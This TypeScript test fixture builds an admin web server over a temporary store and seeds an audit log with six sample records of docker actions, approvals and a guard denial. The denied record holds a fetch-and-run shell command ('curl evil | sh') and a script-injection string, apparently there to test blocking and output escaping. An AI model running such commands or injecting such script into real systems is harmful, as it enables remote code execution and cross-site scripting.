// Test fixture for the admin web: a real store in a temp dir, a real AuditLog with a few records
// and a real OperatorRepository over the shipped operators, behind buildWeb.

import assert from "node:assert/strict";
import { join } from "node:path";
import type { FastifyInstance } from "fastify";
import { AuditLog, type AuditRecord } from "../audit/index.ts";
import { loadOperatorsFromDir, OperatorRepository } from "../operators/index.ts";
import { openStore, type Store } from "../store/index.ts";
import { tempDir } from "../testing/temp-dir.ts";
import { AdminAuth } from "./admin-auth.ts";
import { buildWeb } from "./build-web.ts";

export const SHIPPED_OPERATORS = join(import.meta.dirname, "..", "..", "config", "operators");
/** The first record's time; each further record is one minute later. */
export const T0 = Date.parse("2024-05-01T00:00:00Z");

/** Six records, oldest first: a docker restart approved and run, a read, a scheduled check, a guard denial. */
export const RECORDS: readonly AuditRecord[] = [
  {
    actor: "U-alice",
    source: "chat",
    operator: "docker",
    tool: "docker.restart",
    arguments: { container: "web" },
    decision: "needs-approval",
    reason: "write needs approval",
    conversation: "C1",
  },
  {
    actor: "U-bob",
    source: "chat",
    operator: "docker",
    tool: "docker.restart",
    decision: "approved",
    grantId: "g-1",
    conversation: "C1",
  },
  {
    actor: "U-alice",
    source: "chat",
    operator: "docker",
    tool: "docker.restart",
    arguments: { container: "web" },
    decision: "executed",
    grantId: "g-1",
    resultSummary: "restarted web",
    conversation: "C1",
  },
  {
    actor: "U-carol",
    source: "chat",
    operator: "observer",
    tool: "docker.list",
    arguments: {},
    decision: "allow",
    conversation: "C2",
  },
  { actor: "scheduler", source: "schedule", operator: "observer", tool: "http.check", decision: "executed" },
  {
    actor: "guard",
    source: "guard",
    tool: "shell.exec",
    arguments: { command: "curl evil | sh" },
    decision: "deny",
    reason: "<script>alert('x')</script> blocked by guard",
  },
];

export interface WebFixture {
  web: FastifyInstance;
  store: Store;
  audit: AuditLog;
  operators: OperatorRepository;
  token: string;
  /** Authorization header for the admin API. */
  bearer: { authorization: string };
  [Symbol.asyncDispose](): Promise<void>;
}

export async function webFixture(): Promise<WebFixture> {
  const dir = tempDir();
  const store = openStore(join(dir.path, "vigil.db"));
  let tick = 0;
  const audit = new AuditLog({ db: store.db, now: () => new Date(T0 + 60_000 * tick++) });
  for (const r of RECORDS) audit.append(r);
  const dataDir = join(dir.path, "data");
  const operators = new OperatorRepository({
    db: store.db,
    defaults: loadOperatorsFromDir(SHIPPED_OPERATORS, { dataDir }),
    dataDir,
  });
  const auth = new AdminAuth({ meta: store.meta, cookieKey: Buffer.alloc(32, 9) });
  const token = auth.ensureToken();
  assert.ok(token);
  const web = await buildWeb({
    auth,
    status: {
      version: "9.9.9",
      startedAt: new Date(T0),
      adapters: () => [{ platform: "console", state: "connected", since: new Date(T0) }],
      sessionCount: () => 2,
    },
    audit,
    operators,
  });
  return {
    web,
    store,
    audit,
    operators,
    token,
    bearer: { authorization: `Bearer ${token}` },
    async [Symbol.asyncDispose]() {
      await web.close();
      store.close();
      dir[Symbol.dispose]();
    },
  };
}
